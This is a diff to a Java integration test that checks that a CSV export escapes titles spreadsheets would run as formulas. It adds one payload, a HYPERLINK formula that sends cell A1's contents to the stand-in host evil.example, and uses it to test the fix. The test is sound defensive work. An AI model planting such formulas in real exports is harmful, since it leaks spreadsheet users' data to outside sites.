@@ -10,11 +10,15 @@ import static org.learningledger.query.LearningEvents.invited;
 import static org.learningledger.query.LearningEvents.published;
 import static org.learningledger.query.LearningEvents.withdrawn;
 
+import java.io.IOException;
+import java.io.StringReader;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 import java.util.UUID;
 import java.util.stream.StreamSupport;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVRecord;
 import org.apache.kafka.clients.producer.ProducerRecord;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
@@ -51,6 +55,8 @@ class HistoryIT {
     final UUID w = UUID.randomUUID();
     final UUID x = UUID.randomUUID();
     static final String TRICKY = "L v2, \"national\"\nsecond line";
+    /** A title that a spreadsheet would run as a formula, sending the sheet's cells to another site. */
+    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"R v1\")";
     Api api;
     String beforeNation;
     String beforeValidation;
@@ -72,7 +78,7 @@ class HistoryIT {
         beforeValidation = org.timeline.lastAt();
         events.add(org.event(v, published(v, org.teamC, org.south, 1, NATION, "V v1", l)));
         events.add(org.event(r, drafted(r, org.teamB, "R draft")));
-        events.add(org.event(r, published(r, org.teamB, org.north, 1, REGION, "R v1")));
+        events.add(org.event(r, published(r, org.teamB, org.north, 1, REGION, FORMULA)));
         events.add(org.event(w, drafted(w, org.teamB, "W draft")));
         events.add(org.event(w, published(w, org.teamB, org.north, 1, NATION, "W v1")));
         events.add(org.event(w, withdrawn(w, org.teamB, org.north, NATION, "W reason")));
@@ -111,6 +117,17 @@ class HistoryIT {
                 .containsExactly(TRICKY, "");
         assertThat(response.getBody()).contains("\"L v2, \"\"national\"\"\nsecond line\"").endsWith("\r\n")
                 .doesNotStartWith("\uFEFF");
+    }
+
+    @Test
+    void givenATitleThatLooksLikeAFormula_whenExportedAsCsv_thenASpreadsheetReadsItAsText() throws IOException {
+        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(export(org.bob, "text/csv").getBody())).getRecords();
+
+        assertThat(rows.stream().filter(row -> row.get("learning_id").equals(r.toString())).map(row -> row.get("title")))
+                .contains("'" + FORMULA);
+        assertThat(rows.stream().flatMap(row -> row.toList().stream()))
+                .noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
     }
 
     @Test
